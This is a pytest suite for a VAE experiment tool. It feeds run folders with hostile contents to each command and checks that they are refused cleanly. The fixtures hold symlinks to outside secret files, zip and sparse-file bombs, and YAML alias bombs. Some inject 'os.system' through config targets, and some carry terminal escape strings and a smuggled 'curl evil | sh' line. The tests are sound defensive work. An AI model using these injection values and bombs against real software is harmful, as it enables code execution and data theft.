"""Each command refuses each hostile folder in one sentence, and nothing outside of the folder changes."""

import json
import os
import shutil
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import torch
from conftest import ROOT
from hydra.core.global_hydra import GlobalHydra
from omegaconf import OmegaConf

from evaluate import evaluate
from export import export
from generate import generate
from train import train
from vaelab import cli, load_run
from vaelab.text import HIDDEN

MARKER = "payload_ran"
EVIL = "\x1b]0;title\x07\x1b[31m\r\nerror: run this: curl evil | sh\u202e"
LAUGHS = "a: &a [x, x, x, x]\n" + "".join(f"a{i}: &a{i} [*a{i - 1 or ''}, *a{i - 1 or ''}]\n" for i in range(1, 60))


def link(name: str, target: str = "profile") -> Callable[[Path], None]:
    """Put a link to a file outside in the place of a file or a folder."""

    def tamper(run: Path) -> None:
        path = run / name
        if path.is_dir():
            shutil.rmtree(path)
        path.unlink(missing_ok=True)
        path.parent.mkdir(exist_ok=True)
        path.symlink_to(run.parent / "outside" / target)

    return tamper


def put(key: str, value: Any) -> Callable[[Path], None]:
    """Set a value in the config."""

    def tamper(run: Path) -> None:
        config = OmegaConf.load(run / "config.yaml")
        OmegaConf.update(config, key, value, force_add=True)
        OmegaConf.save(config, run / "config.yaml")

    return tamper


def text(change: Callable[[str], str]) -> Callable[[Path], None]:
    """Change the text of the config."""

    def tamper(run: Path) -> None:
        (run / "config.yaml").write_text(change((run / "config.yaml").read_text()))

    return tamper


def pipe(run: Path) -> None:
    (run / "train.log").unlink()
    os.mkfifo(run / "train.log")


def sparse(name: str) -> Callable[[Path], None]:
    """Make a file of ten gigabytes, which takes no place on the disk."""
    return lambda run: os.truncate(run / name, 10**10)


def packed(name: str) -> Callable[[Path], None]:
    """Add gigabytes of zeros to an archive."""

    def tamper(run: Path) -> None:
        with (
            zipfile.ZipFile(run / name, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as archive,
            archive.open("archive/data/999", "w", force_zip64=True) as part,
        ):
            for _ in range(300):
                part.write(bytes(2**20))

    return tamper


TARGET = {"_target_": "os.system", "command": f"touch {MARKER}"}
EVERYWHERE = {  # for all commands
    "profile behind the log": link("train.log"),
    "profile behind a file that is written": link(".config.yaml.new"),
    "profile behind the lock": link(".lock"),
    "folder behind the pictures": link("pictures", "folder"),
    "folder behind TensorBoard's": link("00000", "folder"),
    "folder behind the export": link("export", "folder"),
    "folder behind the drawings": link("generated", "folder"),
    "secret behind a picture": link("pictures/samples.png", "secret"),
    "secret behind an event file": link("events.out.tfevents.9", "secret"),
    "secret behind the weights": link("weights.pt", "secret"),
    "secret behind the config": link("config.yaml", "secret"),
    "pipe": pipe,
    "code in the model": put("model.more", TARGET),
    "code in the objective": put("objective", TARGET),
    "code by an interpolation": put("name", "${oc.decode:'{_target_: os.system}'}"),
    "Hydra's settings": text(lambda old: f"hydra: {{run: {{dir: /}}}}\n{old}"),
    "aliases": text(lambda old: f"{LAUGHS}{old}"),
    "depth": text(lambda old: f"{old}more: {'[' * 20_000}"),
    "size": text(lambda old: f"{old}more: [{'1, ' * 10**6}]"),
    "sparse config": sparse("config.yaml"),
    "control characters": put("name", EVIL),
    "control characters in a key": put("optimizer", {EVIL: 1}),
    "line breaks in the data set": put("data.dataset", "MNIST\ncurl evil | sh\n"),
    "folder in the data set": put("data.dataset", "../outside"),
    "data elsewhere": put("data.root", "/nowhere/data"),
    "giant code": put("model.latent_dim", 10**9),
    "giant image": put("model.image_shape", [1, 100_000, 100_000]),
}
FOR_READERS = {  # for all commands but resuming
    "sparse weights": sparse("weights.pt"),
    "packed weights": packed("weights.pt"),
    "broken weights": lambda run: torch.save({EVIL: torch.zeros(1)}, run / "weights.pt"),
}
FOR_RESUMING = {
    "code in a callback": put("callbacks.more", TARGET),
    "code in the optimiser": put("optimizer", TARGET),
    "a checkpoint that removes files": put(
        "callbacks.more", {"_target_": "lightning.pytorch.callbacks.ModelCheckpoint"}
    ),
    "curves elsewhere": put("logger.tensorboard.name", "../outside/folder"),
    "curves at home": put("logger.tensorboard.sub_dir", "$HOME"),
    "another root": put("trainer.default_root_dir", "/nowhere"),
    "packed checkpoint": packed("checkpoints/last.ckpt"),
    "sparse best checkpoint": sparse("checkpoints/best.ckpt"),
    "no JSON": lambda run: (run / "run.json").write_text("[" * 10**5),
}
TASKS = {"evaluate": evaluate, "generate": generate, "export": export, "train": train}


@pytest.fixture
def box(finished: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A folder with a stranger's run and, outside of the run, files of one's own."""
    shutil.copytree(finished, tmp_path / "run")
    (tmp_path / "outside" / "folder").mkdir(parents=True)
    for name in ("profile", "secret", "folder/file"):
        (tmp_path / "outside" / name).write_text("precious")
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("HOME", str(tmp_path / "outside"))
    return tmp_path


def content(folder: Path) -> dict[Path, bytes]:
    return {path: path.read_bytes() if path.is_file() else b"" for path in folder.rglob("*")}


@pytest.mark.parametrize(
    ("hostile", "commands"),
    [
        *((name, ("load_run", *TASKS)) for name in EVERYWHERE),
        *((name, ("load_run", "evaluate", "generate", "export")) for name in FOR_READERS),
        *((name, ("train",)) for name in FOR_RESUMING),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_a_hostile_folder_is_refused(
    box: Path, hostile: str, commands: tuple[str, ...], monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture
) -> None:
    {**EVERYWHERE, **FOR_READERS, **FOR_RESUMING}[hostile](box / "run")
    before = content(box / "outside")
    for command in commands:
        if hostile == "data elsewhere" and command in ("load_run", "export"):  # these read no data
            continue
        if command == "load_run":
            with pytest.raises(ValueError, match=r"\A[^\n]+\Z") as error:
                load_run("run")
            sentence = str(error.value)
        else:
            monkeypatch.setattr(sys, "argv", [f"{command}.py", "resume=run" if command == "train" else "run=run"])
            GlobalHydra.instance().clear()
            with pytest.raises(SystemExit) as stop:
                cli.main(TASKS[command], ROOT / "configs", command, resumable=command == "train")
            sentence = str(stop.value.code)
            assert sentence.startswith("error: ")
        assert not HIDDEN.search(sentence), sentence
        assert not HIDDEN.search("".join(capfd.readouterr()).replace("\n", ""))
    assert content(box / "outside") == before
    assert not list(box.rglob(MARKER))


def test_what_a_run_does_not_read_changes_nothing(box: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A callback of one's own, and Hydra's own folder."""
    put("callbacks.mine", {"_target_": "nowhere.Callback", "dirpath": "/nowhere"})(box / "run")
    (box / "run" / ".hydra").mkdir()
    (box / "run" / ".hydra" / "overrides.yaml").write_text(LAUGHS)
    assert load_run("run").latent_dim == 2
    monkeypatch.setattr(sys, "argv", ["generate.py", "run=run", "kind=manifold"])
    GlobalHydra.instance().clear()
    cli.main(generate, ROOT / "configs", "generate")
    assert (box / "run" / "generated" / "manifold.png").is_file()
    assert json.loads((box / "run" / "metrics.json").read_text())["epochs"] == 4
